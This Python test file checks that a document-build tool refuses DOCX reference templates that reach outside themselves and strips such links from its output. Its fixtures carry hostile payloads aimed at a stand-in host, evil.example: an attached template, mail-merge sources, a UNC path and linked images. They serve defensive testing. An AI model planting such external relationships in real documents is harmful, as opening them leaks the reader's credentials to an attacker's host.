"""A reference document (templates/reference.docx) that reaches outside itself is refused at it
as `template-external`, and the DOCX writer never passes such a reference on (stop 33, red team
h110): a pull request attached a template on a host of its choosing
(`<w:attachedTemplate r:id=…/>`, `TargetMode="External"`), validate and build said nothing, and
bundle.docx kept the relationship, so Word on a reviewer's machine would fetch the template (and
send the reviewer's Windows credentials to that host) when the CI artifact was opened."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner

from inquiry.cli import main
from inquiry.scaffold import init

PR = "http://schemas.openxmlformats.org/package/2006/relationships"
RT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
NS = f'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="{RT}"'
EVIL = "file://evil.example/share/t.dotm"


def _rels(*rows: tuple[str, str, str], quote: str = '"') -> str:
    body = "".join(
        f'<Relationship Id="{i}" Type="{RT}/{kind}" Target="{target}" '
        f"TargetMode={quote}External{quote}/>"
        for i, kind, target in rows
    )
    head = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    return f'{head}<Relationships xmlns="{PR}">{body}</Relationships>'


def _with(reference: bytes, parts: dict[str, str], settings: str = "") -> bytes:
    """`reference` with `parts` added or replaced, and `settings` put first in its settings."""
    source = zipfile.ZipFile(io.BytesIO(reference))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for info in source.infolist():
            data = source.read(info)
            if info.filename == "word/settings.xml" and settings:
                text = data.decode()
                data = re.sub(
                    r"(<w:settings\b[^>]*>)", lambda m: m.group(1) + settings, text, count=1
                ).encode()
            if info.filename not in parts:
                z.writestr(info, data)
        for name, text in parts.items():
            z.writestr(name, text)
    return out.getvalue()


EVIL_TEMPLATE = (
    {"word/_rels/settings.xml.rels": _rels(("rIdEvil", "attachedTemplate", EVIL))},
    '<w:attachedTemplate r:id="rIdEvil"/>',
)
CASES = {
    "attached template": EVIL_TEMPLATE,
    "attached template, single quotes": (
        {"word/_rels/settings.xml.rels": _rels(("rIdEvil", "attachedTemplate", EVIL), quote="'")},
        '<w:attachedTemplate r:id="rIdEvil"/>',
    ),
    "mail-merge data source": (
        {"word/_rels/settings.xml.rels": _rels(("rIdDs", "mailMergeSource", EVIL))},
        '<w:mailMerge><w:mainDocumentType w:val="formLetters"/>'
        '<w:dataType w:val="native"/><w:dataSource r:id="rIdDs"/></w:mailMerge>',
    ),
    "mail merge naming its source in its text": (
        {},
        '<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataType w:val="native"/>'
        '<w:connectString w:val="Data Source=\\\\evil.example\\share\\x.xlsx"/></w:mailMerge>',
    ),
    "linked picture of the numbering": (
        {"word/_rels/numbering.xml.rels": _rels(("rIdPic", "image", "http://evil.example/p.png"))},
        "",
    ),
}


def _repo(tmp_path: Path, parts: dict[str, str], settings: str) -> Path:
    root = tmp_path / "repo"
    init(root)
    reference = root / "templates/reference.docx"
    reference.write_bytes(_with(reference.read_bytes(), parts, settings))
    return root


@pytest.mark.parametrize("case", sorted(CASES))
def test_a_reference_document_reaching_outside_is_refused_at_it(tmp_path: Path, case: str) -> None:
    parts, settings = CASES[case]
    root = _repo(tmp_path, parts, settings)
    for command in (["validate"], ["build", "--format", "docx"]):
        done = CliRunner().invoke(main, [*command, "--root", str(root)])
        assert done.exit_code == 1, (command, done.output)
        assert "templates/reference.docx" in done.output and "template-external" in done.output
        assert "Traceback" not in done.output
        assert not (root / "build/bundle.docx").exists()
    named = [n for n in parts if n.endswith(".rels")] or ["word/settings.xml"]
    assert all(n in done.output for n in named), done.output
    assert "evil.example" in done.output


def test_the_error_names_the_part_and_the_target(tmp_path: Path) -> None:
    """inquiry's own reference document passes (pandoc's sample text in it links example.com:
    a hyperlink of the text is followed only on a click, and pandoc writes the text anew)."""
    own = tmp_path / "own"
    init(own)
    done = CliRunner().invoke(main, ["validate", "--root", str(own)])
    assert done.exit_code == 0, done.output
    root = _repo(tmp_path, *EVIL_TEMPLATE)
    done = CliRunner().invoke(main, ["validate", "--root", str(root)])
    assert done.exit_code == 1
    line = next(x for x in done.output.splitlines() if "template-external" in x)
    assert line.startswith("templates/reference.docx:1:1: error[template-external]"), line
    assert (
        f"word/_rels/settings.xml.rels reaches outside the document (attachedTemplate → {EVIL})"
        in line
    )


def _outside(data: bytes) -> list[str]:
    """Whatever in a DOCX package reaches outside it."""
    found = []
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            text = z.read(name).decode("utf-8", "replace")
            if name.endswith(".rels") and re.search(r"TargetMode=.External", text):
                found.append(name)
            if re.search(r"<w:(attachedTemplate|mailMerge)\b", text):
                found.append(name)
            if "evil.example" in text:
                found.append(f"{name}: evil.example")
    return found


def test_the_writer_never_passes_a_reference_reaching_outside_on(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A reference document that got past validation all the same: bundle.docx holds none of
    what it reached outside with, and two builds are the same bytes."""
    import inquiry.render_formats
    import inquiry.repo_files

    parts = {
        "word/_rels/settings.xml.rels": _rels(
            ("rIdEvil", "attachedTemplate", EVIL), ("rIdDs", "mailMergeSource", EVIL)
        ),
    }
    settings = (
        '<w:attachedTemplate r:id="rIdEvil"/><w:mailMerge><w:mainDocumentType '
        'w:val="formLetters"/><w:dataType w:val="native"/><w:dataSource r:id="rIdDs"/>'
        "</w:mailMerge>"
    )
    root = tmp_path / "repo"
    init(root)
    evil = tmp_path / "evil.docx"
    evil.write_bytes(_with((root / "templates/reference.docx").read_bytes(), parts, settings))
    assert len(_outside(evil.read_bytes())) >= 3
    monkeypatch.setattr(inquiry.render_formats, "reference_document", lambda root, work: evil)
    monkeypatch.setattr(inquiry.repo_files, "reference_document", lambda root, work: evil)
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1750000000")
    outputs = []
    for _ in range(2):
        done = CliRunner().invoke(main, ["build", "--root", str(root), "--format", "docx"])
        assert done.exit_code == 0, done.output
        outputs.append((root / "build/bundle.docx").read_bytes())
    assert outputs[0] == outputs[1]
    assert _outside(outputs[0]) == []
    with zipfile.ZipFile(io.BytesIO(outputs[0])) as z:
        assert z.testzip() is None
        settings_xml = z.read("word/settings.xml").decode()
        assert "<w:updateFields" in settings_xml and "r:id=" not in settings_xml


def test_stripping_keeps_the_evidence_s_hyperlinks_and_drops_the_rest() -> None:
    from inquiry.render.docx.outside import stripped

    doc = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document {NS} '
        'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><w:body><w:p>'
        '<w:hyperlink r:id="rIdWeb"><w:r><w:t>site</w:t></w:r></w:hyperlink>'
        '<a:blip r:embed="rIdIn" r:link="rIdPic"/><w:subDoc r:id="rIdSub"/></w:p></w:body>'
        "</w:document>"
    )
    rels = _rels(
        ("rIdWeb", "hyperlink", "https://example.org/"),
        ("rIdPic", "image", "http://evil.example/p.png"),
        ("rIdSub", "subDocument", "file://evil.example/s.docx"),
    )
    header_rels = _rels(("rIdH", "hyperlink", "http://evil.example/h"))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("word/document.xml", doc)
        z.writestr("word/_rels/document.xml.rels", rels)
        z.writestr("word/header1.xml", f"<w:hdr {NS}/>")
        z.writestr("word/_rels/header1.xml.rels", header_rels)
        z.writestr("word/styles.xml", f"<w:styles {NS}/>")
    parts = stripped(out.getvalue())
    assert sorted(parts) == [
        "word/_rels/document.xml.rels",
        "word/_rels/header1.xml.rels",
        "word/document.xml",
    ]
    kept = parts["word/_rels/document.xml.rels"].decode()
    assert "https://example.org/" in kept and "evil.example" not in kept
    assert "evil.example" not in parts["word/_rels/header1.xml.rels"].decode()
    body = parts["word/document.xml"].decode()
    assert 'r:id="rIdWeb"' in body and 'r:embed="rIdIn"' in body
    assert "rIdPic" not in body and "subDoc" not in body
